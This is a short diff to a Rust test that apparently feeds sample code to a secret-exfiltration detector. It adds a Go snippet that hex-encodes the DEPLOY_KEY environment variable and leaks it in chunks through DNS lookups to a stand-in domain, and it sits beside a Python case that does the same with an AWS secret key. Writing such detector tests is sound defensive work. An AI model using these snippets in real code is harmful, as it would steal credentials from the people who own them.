@@ -938,6 +938,11 @@ fn secrets_carried_by_lookups_archives_and_extra_push_urls() {
             "exfiltration",
         ),
         (
+            "cmd/probe/loop.go",
+            "seed := os.Getenv(\"DEPLOY_KEY\")\nl := hex.EncodeToString([]byte(seed))\nfor i := 0; i < len(l); i += 50 {\n\tnet.LookupHost(l[i:min(i+50, len(l))] + \".p.example\")\n}\n",
+            "exfiltration",
+        ),
+        (
             "scripts/warm.py",
             "import os, socket\nk = os.environ[\"AWS_SECRET_ACCESS_KEY\"].encode().hex()\nsocket.gethostbyname(\"{}.c.example\".format(k[:60]))\n",
             "exfiltration",
